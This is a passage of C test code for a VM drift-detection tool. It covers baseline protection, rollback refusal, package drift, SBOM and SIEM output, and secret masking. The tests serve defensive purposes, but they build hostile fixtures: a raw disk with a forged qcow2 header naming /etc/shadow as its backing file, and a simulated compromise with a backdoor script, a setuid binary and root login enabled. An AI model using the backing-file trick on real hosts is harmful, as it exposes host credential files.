/* A typo must not destroy a baseline: any output that is an input of the
 * same run is refused before anything is written, and a report file is only
 * replaced by a complete report. */
Test(cli, no_command_overwrites_its_own_inputs) {
        char *before = sha_of(vdb), *b2 = th_join(work, "b2.vdb"), *lnk = th_join(work, "link.vdb");
        th_run c = th_exec((const char *const[]){"cp", vdb, b2, NULL});
        th_run_free(&c);
        cr_assert_eq(symlink(vdb, lnk), 0);
        struct {
                const char *fmt;
                const char *want;
        } cases[] = {
                {"scan" A "--baseline" A "%1$s" A "--dir" A "%3$s" A "--report" A "json:%1$s",
                 "report file '%1$s' is the baseline '%1$s', an input of this run: refusing to overwrite it"},
                {"scan" A "--baseline" A "%1$s" A "--dir" A "%3$s" A "--report" A "text:%4$s", "is the baseline"},
                {"baseline" A "diff" A "%1$s" A "%2$s" A "--report" A "json:%1$s", "is the baseline"},
                {"baseline" A "export" A "%1$s" A "-o" A "%1$s", "output '%1$s' is the baseline"},
                {"baseline" A "export" A "%1$s" A "-o" A "%4$s", "is the baseline"},
                {"baseline" A "accept" A "--baseline" A "%1$s" A "--dir" A "%3$s" A "-o" A "%4$s" A "--reason" A "x",
                 "NEW must not be OLD"},
        };
        for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
                char *args, *want;
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
                cr_assert(asprintf(&args, cases[i].fmt, vdb, b2, tmpl, lnk) > 0);
                cr_assert(asprintf(&want, cases[i].want, vdb) > 0);
#pragma GCC diagnostic pop
                th_run r = th_vmdrift("%s", args);
                cr_assert_eq(r.status, 2, "%s: %s%s", args, r.out, r.err);
                cr_assert(strstr(r.err, want), "%s: %s", args, r.err);
                th_run_free(&r);
                char *after = sha_of(vdb);
                cr_assert_str_eq(before, after, "%s changed the baseline", args);
                free(after);
                free(args);
                free(want);
        }
        /* accept -o onto the template of the derived baseline it reads */
        char *guest = th_join(work, "guest"), *gvdb = th_join(work, "guest.vdb"), *g2 = th_join(work, "g2.vdb");
        c = th_exec((const char *const[]){"cp", "-a", tmpl, guest, NULL});
        th_run_free(&c);
        th_write(guest, "etc/app.conf", "guest-only\n");
        th_run r = th_vmdrift("baseline" A "accept" A "-q" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s" A
                              "--derive" A "--reason" A "app",
                              vdb, guest, gvdb);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "accept" A "-q" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s" A "--reason" A
                       "again",
                       gvdb, guest, vdb);
        cr_assert_eq(r.status, 2, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "is the template baseline"), "%s", r.err);
        th_run_free(&r);
        /* nor a scan's report or an export of the derived baseline */
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json:%s", gvdb, guest, vdb);
        cr_assert_eq(r.status, 2, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "is the template baseline"), "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "export" A "%s" A "-o" A "%s", gvdb, vdb);
        cr_assert_eq(r.status, 2, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "is the template baseline"), "%s", r.err);
        th_run_free(&r);
        char *after = sha_of(vdb);
        cr_assert_str_eq(before, after);
        free(after);

        /* A run that fails leaves the previous report, not a truncated one. */
        th_write(work, "r.txt", "the previous report\n");
        r = th_vmdrift("scan" A "--baseline" A "%s/missing.vdb" A "--dir" A "%s" A "--report" A "text:%s/r.txt", work,
                       tmpl, work);
        cr_assert_eq(r.status, 3);
        th_run_free(&r);
        th_run cat = th_exec((const char *const[]){"cat", th_path(work, "r.txt"), NULL});
        cr_assert_str_eq(cat.out, "the previous report\n");
        th_run_free(&cat);
        th_run ls = th_exec((const char *const[]){"sh", "-c", "ls \"$0\" | grep -c '[.]tmp[.]' || true", work, NULL});
        cr_assert_str_eq(ls.out, "0\n", "no temporary report left behind");
        th_run_free(&ls);
        /* ... and a device is written as it is, never replaced */
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "json:/dev/null", vdb, tmpl);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        struct stat st;
        cr_assert_eq(stat("/dev/null", &st), 0);
        cr_assert(S_ISCHR(st.st_mode), "/dev/null is still a device");
        free(before);
        free(b2);
        free(lnk);
        free(guest);
        free(gvdb);
        free(g2);
}

/* Another user who can write the state directory could plant a spool that
 * we would send to the SIEM as ours, or a KVM memory: refused. */
Test(cli, a_state_directory_others_can_write_is_refused) {
        char *st = th_join(work, "state");
        cr_assert_eq(mkdir(st, 0777), 0);
        cr_assert_eq(chmod(st, 0777), 0);
        th_run r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "syslog:udp://127.0.0.1:9" A
                              "--state-dir" A "%s",
                              vdb, tmpl, st);
        cr_assert_eq(r.status, 3, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "is writable by everyone (mode 0777): refusing to trust it"), "%s", r.err);
        th_run_free(&r);
        free(st);
}

/* An older baseline copied over the current one is refused: the state
 * directory remembers the newest capture seen at each path, per signer. */
Test(cli, an_older_baseline_copied_over_the_current_one_is_refused) {
        char *st = th_join(work, "state"), *old = th_join(work, "old.vdb"), *cur = th_join(work, "cur.vdb");
        th_run c = th_exec((const char *const[]){"cp", vdb, old, NULL});
        th_run_free(&c);
        th_run r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s", tmpl, cur);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--state-dir" A "%s", cur, tmpl, st);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        c = th_exec((const char *const[]){"cp", old, cur, NULL});
        th_run_free(&c);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--state-dir" A "%s", cur, tmpl, st);
        cr_assert_eq(r.status, 3, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "is older than the one seen before at this path"), "%s", r.err);
        cr_assert(strstr(r.err, "--allow-rollback"), "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--state-dir" A "%s" A "--allow-rollback", cur,
                       tmpl, st);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        /* the same older file at another path is another baseline */
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--state-dir" A "%s", old, tmpl, st);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        free(st);
        free(old);
        free(cur);
}

/* A raw guest disk whose guest wrote a qcow2 header naming a host file as
 * its backing file: qemu would probe it as qcow2 and the appliance would
 * read the host file. Refused before any launch; --image-format raw reads
 * it as what it is. */
Test(cli, an_image_whose_header_names_a_host_file_is_refused) {
        th_run r = th_exec((const char *const[]){
                "sh", "-ec",
                "cd \"$0\" && truncate -s 64M disk.raw && qemu-img create -q -f qcow2 -b /etc/shadow -F raw h.qcow2 "
                "64M && dd if=h.qcow2 of=disk.raw bs=65536 count=1 conv=notrunc status=none && rm h.qcow2",
                work, NULL});
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "capture" A "--image" A "%s/disk.raw" A "-o" A "%s/x.vdb", work, work);
        cr_assert_eq(r.status, 3, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "(qcow2, by its header) names the backing file '/etc/shadow', outside the image's "
                                "own directory"),
                  "%s", r.err);
        cr_assert_eq(access(th_path(work, "x.vdb"), F_OK), -1, "nothing written");
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--image" A "%s/disk.raw" A "--allow-backing" A "/etc/nonexistent",
                       vdb, work);
        cr_assert_eq(r.status, 3, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "names the backing file '/etc/shadow'"), "%s", r.err);
        th_run_free(&r);
}

/* A derived baseline is read over its template: an older template copied
 * into the template's place is refused; a template rebuilt since is not. */
Test(cli, an_older_template_under_a_derived_baseline_is_refused) {
        char *guest = th_join(work, "guest"), *gvdb = th_join(work, "guest.vdb"), *old = th_join(work, "old.vdb");
        th_run c = th_exec((const char *const[]){"cp", "-a", tmpl, guest, NULL});
        th_run_free(&c);
        c = th_exec((const char *const[]){"cp", vdb, old, NULL});
        th_run_free(&c);
        /* the template as the guest is derived from: recaptured after old */
        th_run r = th_vmdrift("baseline" A "capture" A "-q" A "--dir" A "%s" A "-o" A "%s" A "--key-from" A "%s", tmpl, vdb,
                              vdb);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        th_write(guest, "etc/app.conf", "guest-only\n");
        r = th_vmdrift("baseline" A "accept" A "-q" A "--baseline" A "%s" A "--dir" A "%s" A "-o" A "%s" A "--derive" A
                       "--reason" A "app",
                       vdb, guest, gvdb);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        c = th_exec((const char *const[]){"cp", old, vdb, NULL});
        th_run_free(&c);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--ignore" A "ctime,inode", gvdb, guest);
        cr_assert_eq(r.status, 3, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "is not the one it was derived from") && strstr(r.err, "not rebuilt since"), "%s",
                  r.err);
        th_run_free(&r);
        free(guest);
        free(gvdb);
        free(old);
}

/* Packages of a directory tree (its dpkg status): drift against the
 * baseline's, under the example policy's packages section, in text and
 * JSON; and --packages-from a newer template's baseline, which a guest
 * cloned from the old template is behind. */
Test(cli, package_drift_against_the_baseline_and_a_newer_template) {
        static const char *v1 = "Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\n"
                                "Version: 1:9.2p1-2+deb12u3\n\nPackage: bash\nStatus: install ok installed\n"
                                "Architecture: amd64\nVersion: 5.2.15-2+b7\n";
        static const char *v2 = "Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\n"
                                "Version: 1:9.2p1-2+deb12u10\n\nPackage: bash\nStatus: install ok installed\n"
                                "Architecture: amd64\nVersion: 5.2.15-2+b7\n\nPackage: sudo\nStatus: install ok "
                                "installed\nArchitecture: amd64\nVersion: 1.9.13p3-1+deb12u1\n";
        char *t1 = th_join(work, "v1"), *t2 = th_join(work, "v2");
        mkdir(t1, 0755);
        mkdir(t2, 0755);
        th_write(t1, "var/lib/dpkg/status", v1);
        th_write(t2, "var/lib/dpkg/status", v2);
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s/v1.vdb", t1, work);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.out, "2 packages"), "%s", r.out);
        th_run_free(&r);
        r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s/v2.vdb", t2, work);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);

        /* the clone of v1, unchanged: nothing against its own baseline... */
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/v1.vdb" A "--ignore" A "ctime,inode", t1, work);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        /* ...but behind the rebuilt template v2, under the example policy: openssh-server is high */
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/v1.vdb" A "--packages-from" A "%s/v2.vdb" A
                       "--policy" A VD_EXAMPLES "/policies/debian.yaml" A "--ignore" A "ctime,inode",
                       t1, work, work);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert(strstr(r.out, "\nPackages (2)\n"), "%s", r.out);
        cr_assert(strstr(r.out, "  high      openssh-server (amd64)  behind: 1:9.2p1-2+deb12u3 -> baseline "
                                "1:9.2p1-2+deb12u10  [rule openssh-server]\n"),
                  "%s", r.out);
        cr_assert(strstr(r.out, "  low       sudo (amd64)  removed: was 1.9.13p3-1+deb12u1\n"), "%s", r.out);
        cr_assert(strstr(r.out, ", 2 on packages\n"), "%s", r.out);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/v1.vdb" A "--packages-from" A "%s/v2.vdb" A
                       "--report" A "json" A "--ignore" A "ctime,inode",
                       t1, work, work);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert_eq(th_lines_with(r.out, "\"package\":\"openssh-server\",\"arch\":\"amd64\",\"change\":\"behind\","
                                          "\"severity\":\"medium\",\"rule\":\"packages\"",
                                   "\"changes\":{\"version\":{\"old\":\"1:9.2p1-2+deb12u10\",\"new\":\"1:9.2p1-2+deb12u3\"}}",
                                   NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"summary\"", "\"packages\":2,", NULL), 1, "%s", r.out);
        th_run_free(&r);

        /* a tree without a package database has no package drift, even against one that has */
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/v1.vdb" A "--report" A "json", tmpl, work);
        cr_assert_eq(th_lines_with(r.out, "\"package\":", NULL), 0, "%s", r.out);
        th_run_free(&r);
        /* --packages-from that is not a baseline: exit 3, named */
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/v1.vdb" A "--packages-from" A "%s/v1/var/lib/dpkg/status",
                       t1, work, work);
        cr_assert_eq(r.status, 3, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "status"), "%s", r.err);
        th_run_free(&r);
        free(t1);
        free(t2);
}

/* An SBOM of a tree (its os-release and dpkg status, names that need
 * escaping included) and of a baseline, in both formats, valid against the
 * official CycloneDX 1.5 and SPDX 2.3 schemas (tests/sbom/validate.py). */
Test(cli, inventory_is_a_valid_cyclonedx_and_spdx_document) {
        char *t = th_join(work, "sb");
        mkdir(t, 0755);
        th_write(t, "etc/os-release", "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_ID=\"12\"\n");
        th_write(t, "var/lib/dpkg/status",
                 "Package: libstdc++6\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12.2.0-14\n\n"
                 "Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:9.2p1-2+deb12u3\n\n"
                 "Package: we\"ird\\name\nStatus: install ok installed\nArchitecture: all\nVersion: 1.0~rc1\n");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s/sb.vdb", t, work);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        static const char *const fmts[] = {"cyclonedx", "spdx"};
        for (int i = 0; i < 2; i++)
                for (int from_baseline = 0; from_baseline < 2; from_baseline++) {
                        char out[64];
                        snprintf(out, sizeof out, "%s-%d.json", fmts[i], from_baseline);
                        r = from_baseline ? th_vmdrift("inventory" A "--baseline" A "%s/sb.vdb" A "--format" A "%s" A
                                                       "-o" A "%s/%s",
                                                       work, fmts[i], work, out)
                                          : th_vmdrift("inventory" A "--dir" A "%s" A "--format" A "%s" A "-o" A "%s/%s",
                                                       t, fmts[i], work, out);
                        cr_assert_eq(r.status, 0, "%s", r.err);
                        th_run_free(&r);
                        th_run v = th_exec((const char *const[]){"python3", VD_SBOM "/validate.py", fmts[i],
                                                                 th_path(work, out), NULL});
                        cr_assert_eq(v.status, 0, "%s %s is not valid:\n%s%s", fmts[i], out, v.out, v.err);
                        th_run_free(&v);
                        r = th_exec((const char *const[]){"cat", th_path(work, out), NULL});
                        cr_assert(strstr(r.out, "pkg:deb/debian/openssh-server@1:9.2p1-2%2Bdeb12u3?arch=amd64&"
                                                "distro=debian-12"),
                                  "%s", r.out);
                        cr_assert(strstr(r.out, "pkg:deb/debian/libstdc%2B%2B6@12.2.0-14"), "%s", r.out);
                        cr_assert(strstr(r.out, "\"we\\\"ird\\\\name\""), "escaped as JSON: %s", r.out);
                        th_run_free(&r);
                }
        /* the output may not replace an input */
        r = th_vmdrift("inventory" A "--baseline" A "%s/sb.vdb" A "-o" A "%s/sb.vdb", work, work);
        cr_assert_eq(r.status, 2, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("inventory" A "--baseline" A "%s/sb.vdb" A "--format" A "xml", work);
        cr_assert_eq(r.status, 2, "%s", r.err);
        cr_assert(strstr(r.err, "--format expects cyclonedx, spdx or json"), "%s", r.err);
        th_run_free(&r);
        free(t);
}

/* The guest's last sign of life is its newest file under /var/log; a policy's
 * dormant_after turns an old one into a dormant event; a time in the future
 * is not evidence (it would hide dormancy for ever). */
Test(cli, a_guest_silent_for_longer_than_dormant_after_is_dormant) {
        char *t = th_join(work, "dm");
        mkdir(t, 0755);
        th_write(t, "var/log/syslog", "old\n");
        th_write(t, "var/log/wtmp", "w\n");
        th_write(t, "var/log/forged", "f\n");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s/dm.vdb", t, work);
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        struct timespec now;
        clock_gettime(CLOCK_REALTIME, &now);
        struct timespec old[2] = {{now.tv_sec - 200 * 86400, 0}, {now.tv_sec - 200 * 86400, 0}},
                        newer[2] = {{now.tv_sec - 120 * 86400, 0}, {now.tv_sec - 120 * 86400, 0}},
                        future[2] = {{now.tv_sec + 30 * 86400, 0}, {now.tv_sec + 30 * 86400, 0}};
        cr_assert_eq(utimensat(AT_FDCWD, th_path(t, "var/log/syslog"), old, 0), 0);
        cr_assert_eq(utimensat(AT_FDCWD, th_path(t, "var/log/wtmp"), newer, 0), 0);
        cr_assert_eq(utimensat(AT_FDCWD, th_path(t, "var/log/forged"), future, 0), 0);
        th_write(work, "dm.yaml", "version: 1\ndormant_after: 90d\ndormant_severity: high\n");
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/dm.vdb" A "--policy" A "%s/dm.yaml" A "--report" A
                       "json" A "--ignore" A "mtime,ctime",
                       t, work, work);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert_eq(th_lines_with(r.out, "\"path\":\"/var/log/wtmp\",\"change\":\"dormant\"", "\"severity\":\"high\"",
                                   "\"days_idle\":{\"old\":null,\"new\":120}", NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"warning\"", "1 files have modification times more than a day "
                                   "ahead", NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"event\":\"summary\"", "\"dormant\":1,", "\"last_activity\":{\"time\":",
                                   "\"path\":\"/var/log/wtmp\"}", NULL),
                     1, "%s", r.out);
        th_run_free(&r);
        /* 150 days is not dormant under 180d; the policy must say which units it takes */
        th_write(work, "dm.yaml", "version: 1\ndormant_after: 26w\n");
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/dm.vdb" A "--policy" A "%s/dm.yaml" A "--report" A
                       "json" A "--ignore" A "mtime,ctime",
                       t, work, work);
        cr_assert_eq(th_lines_with(r.out, "\"change\":\"dormant\"", NULL), 0, "%s", r.out);
        th_run_free(&r);
        r = th_vmdrift("policy" A "check" A "%s/dm.yaml", work);
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.out, "\n  dormant after: 182 days (medium)\n"), "%s", r.out);
        cr_assert(strstr(r.out, "\n  packages: behind medium, ahead info, added low, removed low, changed low, vulnerable medium "
                              "when the advisory gives no severity\n"), "%s",
                  r.out);
        th_run_free(&r);
        th_write(work, "dm.yaml", "version: 1\ndormant_after: 3 months\n");
        r = th_vmdrift("policy" A "check" A "%s/dm.yaml", work);
        cr_assert_eq(r.status, 2, "%s%s", r.out, r.err);
        cr_assert(strstr(r.err, "dm.yaml:2:16: expected a duration such as 90d"), "%s", r.err);
        th_run_free(&r);
        free(t);
}

/* The attacked clone's drift (a changed sshd_config and its keys, a setuid
 * bit, a new binary, a vulnerable package) as ECS documents: every field
 * Elastic's own definitions (@elastic/ecs, tests/ecs) know, of the right
 * type, categorised as ECS allows; and as OCSF events of the four classes,
 * each valid against the schema's class and object definitions
 * (ocsf-schema v1.8.0, tests/ocsf). Both validators refuse what breaks
 * their schema. */
Test(cli, ecs_and_ocsf_documents_validate_against_their_schemas) {
        char *t = th_join(work, "ecs-t");
        mkdir(t, 0755);
        th_write(t, "etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\n");
        th_write(t, "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n");
        th_write(t, "usr/bin/ping", "ELF-ish");
        th_write(t, "var/lib/dpkg/status", "Package: openssh-server\nStatus: install ok installed\nArchitecture: amd64\n"
                                           "Source: openssh\nVersion: 1:9.2p1-2+deb12u2\n");
        th_write(work, "adv/DSA-5724-1.json",
                 "{\"id\":\"DSA-5724-1\",\"aliases\":[\"CVE-2024-6387\"],\"affected\":[{\"package\":{\"ecosystem\":"
                 "\"Debian:12\",\"name\":\"openssh\"},\"ranges\":[{\"type\":\"ECOSYSTEM\",\"events\":[{\"introduced\":"
                 "\"0\"},{\"fixed\":\"1:9.2p1-2+deb12u3\"}]}]}]}");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "-o" A "%s/ecs.vdb" A "--policy" A VD_EXAMPLES
                              "/policies/debian.yaml",
                              t, work);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        th_write(t, "etc/ssh/sshd_config", "PermitRootLogin yes\nPasswordAuthentication no\n");
        chmod(th_path(t, "usr/bin/ping"), 04755);
        th_write(t, "usr/local/bin/backdoor.sh", "evil");
        r = th_vmdrift("scan" A "--dir" A "%s" A "--baseline" A "%s/ecs.vdb" A "--policy" A VD_EXAMPLES
                       "/policies/debian.yaml" A "--advisories" A "%s/adv" A "--report" A "ecs:%s/out.ecs" A "--report" A
                       "ecs" A "--report" A "ocsf:%s/out.ocsf",
                       t, work, work, work, work);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        const char *o = r.out;
        cr_assert_eq(th_lines_with(o, "\"message\":\"high changed /etc/ssh/sshd_config\"",
                                   "\"category\":[\"configuration\"],\"type\":[\"change\"],\"action\":\"updated\"",
                                   "\"changes\":[{\"name\":\"PermitRootLogin\",\"old\":\"no\",\"new\":\"yes\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"event\":{\"kind\":\"alert\",\"category\":[\"file\"],\"type\":[\"change\"],"
                                      "\"action\":\"attributes_modified\"",
                                   "\"file\":{\"path\":\"/usr/bin/ping\",\"name\":\"ping\",\"directory\":\"/usr/bin\"",
                                   "\"mode\":\"4755\"", "\"previous\":{\"mode\":\"0644\"}", "\"detector\":\"setuid\"",
                                   "\"severity\":73", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"type\":[\"creation\"],\"action\":\"created\"",
                                   "\"path\":\"/usr/local/bin/backdoor.sh\"", "\"extension\":\"sh\"", NULL),
                     1, "%s", o);
        cr_assert_eq(th_lines_with(o, "\"category\":[\"package\",\"vulnerability\"]",
                                   "\"package\":{\"name\":\"openssh-server\",\"version\":\"1:9.2p1-2+deb12u2\"",
                                   "\"vulnerability\":{\"id\":\"DSA-5724-1\"", NULL),
                     1, "%s", o);
        th_run_free(&r);
        r = th_exec((const char *const[]){"python3", VD_ECS "/validate.py", VD_ECS "/ecs_fields.json",
                                          th_path(work, "out.ecs"), NULL});
        cr_assert_eq(r.status, 0, "not ECS:\n%s%s", r.out, r.err);
        cr_assert(strstr(r.out, " 0 problems (@elastic/ecs "), "%s", r.out);
        th_run_free(&r);
        /* a field ECS lacks, a type it does not have, a category's wrong type */
        th_write(work, "bad.ecs",
                 "{\"@timestamp\":\"2026-12-07T00:00:00Z\",\"ecs\":{\"version\":\"9.4.0\"},\"message\":\"m\","
                 "\"event\":{\"kind\":\"alert\",\"category\":[\"file\"],\"type\":[\"installation\"]},"
                 "\"file\":{\"size\":\"12\",\"colour\":\"red\"}}\n");
        r = th_exec((const char *const[]){"python3", VD_ECS "/validate.py", VD_ECS "/ecs_fields.json",
                                          th_path(work, "bad.ecs"), NULL});
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert(strstr(r.out, "file.colour is no ECS field") && strstr(r.out, "file.size: '12' is no long") &&
                      strstr(r.out, "event.type 'installation' is expected by none of event.category ['file']"),
                  "%s", r.out);
        th_run_free(&r);

        r = th_exec((const char *const[]){"python3", VD_OCSF "/validate.py", VD_OCSF "/schema", th_path(work, "out.ocsf"),
                                          NULL});
        cr_assert_eq(r.status, 0, "not OCSF:\n%s%s", r.out, r.err);
        cr_assert(strstr(r.out, "8 events (compliance_finding, detection_finding, device_config_state_change, "
                                "vulnerability_finding), 0 problems (OCSF 1.8.0)"),
                  "%s", r.out);
        th_run_free(&r);
        r = th_exec((const char *const[]){"cat", th_path(work, "out.ocsf"), NULL});
        cr_assert_eq(th_lines_with(r.out, "\"class_uid\":2004", "\"type_uid\":200401", "\"severity_id\":4",
                                   "\"evidences\":[{\"file\":{\"name\":\"ping\",\"path\":\"/usr/bin/ping\"", NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"class_uid\":2003", "\"compliance\":{\"control\":\"config\"", NULL), 1, "%s",
                     r.out);
        cr_assert_eq(th_lines_with(r.out, "\"class_uid\":5019", "\"category_uid\":5", "\"state_id\":99",
                                   "\"name\":\"PermitRootLogin\",\"old\":\"no\",\"new\":\"yes\"", NULL),
                     1, "%s", r.out);
        cr_assert_eq(th_lines_with(r.out, "\"class_uid\":2002", "\"advisory\":{\"uid\":\"DSA-5724-1\"}",
                                   "\"affected_packages\":[{\"name\":\"openssh-server\"", NULL),
                     1, "%s", r.out);
        th_run_free(&r);
        /* an unknown attribute, an enum value OCSF lacks, a required one missing, a wrong type_uid */
        th_write(work, "bad.ocsf",
                 "{\"class_uid\":2004,\"category_uid\":2,\"activity_id\":1,\"type_uid\":200402,\"time\":1,"
                 "\"severity_id\":9,\"colour\":\"red\",\"metadata\":{\"version\":\"1.8.0\",\"product\":{\"name\":"
                 "\"vmdrift\"}}}\n");
        r = th_exec((const char *const[]){"python3", VD_OCSF "/validate.py", VD_OCSF "/schema", th_path(work, "bad.ocsf"),
                                          NULL});
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        cr_assert(strstr(r.out, "colour: no attribute of this class or object") && strstr(r.out, "severity_id: 9 is none") &&
                      strstr(r.out, "finding_info: required, missing") &&
                      strstr(r.out, "type_uid 200402 is not class_uid * 100 + activity_id"),
                  "%s", r.out);
        th_run_free(&r);
        free(t);
}

/* --report prometheus:FILE on one scan: the guest named by its source,
 * whatever bytes that holds (a quote, a backslash, a newline, no UTF-8),
 * escaped so that promtool's own check passes. */
Test(cli, scan_metrics_pass_promtool_whatever_the_source_is_called) {
        char *odd = th_join(work, "we\"ird\\\nname\xff");
        char cmd[8400];
        snprintf(cmd, sizeof cmd, "cp -a '%s' \"$0\"", tmpl);
        th_run r = th_exec((const char *const[]){"sh", "-c", cmd, odd, NULL});
        cr_assert_eq(r.status, 0, "%s", r.err);
        th_run_free(&r);
        r = th_vmdrift("scan" A "--baseline" A "%s" A "--dir" A "%s" A "--report" A "prometheus:%s/m.prom", vdb, odd, work);
        cr_assert_eq(r.status, 1, "%s%s", r.out, r.err);
        th_run_free(&r);
        r = th_exec((const char *const[]){"sh", "-c", "promtool check metrics <\"$0\"", th_path(work, "m.prom"), NULL});
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        r = th_exec((const char *const[]){"cat", th_path(work, "m.prom"), NULL});
        cr_assert(strstr(r.out, "ird\\\\\\nname?\"} 1\n"), "%s", r.out);
        cr_assert(strstr(r.out, "we\\\"ird"), "%s", r.out);
        cr_assert(strstr(r.out, ",mode=\"tree\"} 1\n"), "%s", r.out);
        th_run_free(&r);
        free(odd);
}

/* content: a clone whose sshd_config, a cron file and an nginx-like config
 * changed shows each file's diff (text and JSON), secrets masked on both
 * sides, shadow never stored; an accept takes in the new text, and the
 * next diff is against it. */
Test(cli, changed_files_show_their_diff_with_secrets_masked_and_shadow_never_stored) {
        char *t = th_join(work, "txt");
        mkdir(t, 0755);
        th_write(t, "etc/ssh/sshd_config", "PermitRootLogin no\nPasswordAuthentication no\nUsePAM yes\n");
        th_write(t, "etc/nginx/site.conf", "server {\n  listen 80;\n  root /srv/www;\n}\n");
        th_write(t, "etc/app.env", "DB_PASSWORD=hunter2\nHOST=db1\n");
        th_write(t, "etc/shadow", "root:$6$saltsalt$TOPSECRETHASHabcdefgh:19000::\n");
        th_write(t, "var/spool/cron/crontabs/root", "0 3 * * * /usr/local/bin/backup\n");
        th_write(work, "content.yaml", "version: 1\ncontent:\n  paths: [/etc/**, /var/spool/cron/**]\n  max_file: 64K\n");
        th_run r = th_vmdrift("baseline" A "capture" A "--dir" A "%s" A "--policy" A "%s/content.yaml" A "-o" A
                              "%s/txt.vdb",
                              t, work, work);
        cr_assert_eq(r.status, 0, "%s%s", r.out, r.err);
        th_run_free(&r);
        /* what the baseline holds: the texts, masked; never shadow */
        r = th_exec((const char *const[]){"python3", "-c",
                                          "import sqlite3,sys,zlib\n"
                                          "for (d,) in sqlite3.connect(sys.argv[1]).execute('select data from content'):\n"
                                          "  print(zlib.decompress(d).decode())",
                                          th_path(work, "txt.vdb"), NULL});
        cr_assert_eq(r.status, 0, "%s", r.err);
        cr_assert(strstr(r.out, "PermitRootLogin no") && strstr(r.out, "listen 80;") && strstr(r.out, "DB_PASSWORD=[masked:"),
